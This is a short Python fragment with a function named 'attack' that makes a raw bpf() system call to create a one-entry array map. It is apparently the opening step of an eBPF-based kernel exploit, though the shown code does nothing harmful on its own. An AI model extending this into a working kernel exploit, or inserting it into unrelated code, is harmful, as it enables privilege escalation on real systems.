def attack(args):
    # A table for a program: what loading one begins with.
    attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1).ljust(120, b"\0"))
    return call("syscall", 280 if ARM else 321, 0, attributes, 72)
